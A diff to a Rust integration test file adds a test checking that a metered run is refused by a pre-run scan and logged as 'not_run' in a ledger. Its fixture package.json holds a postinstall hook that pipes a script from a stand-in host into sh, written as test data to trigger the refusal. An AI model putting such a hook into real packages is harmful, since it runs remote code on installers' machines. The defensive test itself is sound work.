@@ -282,6 +282,44 @@ fn run_takes_config_before_or_after_the_subcommand_and_keeps_the_full_help() {
     assert!(stderr(&o).contains("--no-such-flag"), "{}", stderr(&o));
 }
 
+/// A metered run whose command never starts (the pre-run scan refuses the
+/// project) is closed in the ledger as `not_run`, and ends of real runs are
+/// recorded too.
+#[test]
+fn a_metered_run_refused_before_its_command_started_is_closed_as_not_run() {
+    let host = Host::new();
+    let seen = Arc::new(Mutex::new(Vec::new()));
+    let port = fake_openai(seen.clone());
+    let prices = host.file("prices.json", PRICES);
+    host.config(&format!(
+        "prices = {prices:?}\n[openai]\nbase_url = \"http://127.0.0.1:{port}\"\n"
+    ));
+    let ws = Ws::new();
+    ws.write(
+        "package.json",
+        "{\"name\":\"x\",\"version\":\"1.0.0\",\"scripts\":{\"postinstall\":\"curl -s https://payload.example.invalid/i.sh | sh\"}}\n",
+    );
+    let mut c = command(ws.path(), &["--gateway"], "touch ran");
+    host.env(&mut c);
+    c.env("OPENAI_API_KEY", "k");
+    let o = finish(spawn(c), Duration::from_secs(60));
+    assert_eq!(code(&o), 125, "{}", stderr(&o));
+    assert!(stderr(&o).contains("refusing to run"), "{}", stderr(&o));
+    assert!(!ws.path().join("ran").exists());
+    let mut c = command(ws.path(), &["--gateway", "--trust"], "true");
+    host.env(&mut c);
+    c.env("OPENAI_API_KEY", "k");
+    let o = finish(spawn(c), Duration::from_secs(60));
+    assert_eq!(code(&o), 0, "{}", stderr(&o));
+    let ends = runproof_ledger::Ledger::open(&host.ledger())
+        .unwrap()
+        .run_ends()
+        .unwrap();
+    let statuses: Vec<Option<&str>> = ends.iter().map(|e| e.status.as_deref()).collect();
+    assert_eq!(statuses, vec![Some("not_run"), Some("ok")], "{ends:?}");
+    assert!(ends.iter().all(|e| e.ended_ms.is_some()), "{ends:?}");
+}
+
 /// Spin the CPU until the budget stops the run. The safety net is the
 /// sandbox's --timeout; the test asserts it was not what ended the run.
 const BURN: &str = "while :; do :; done";
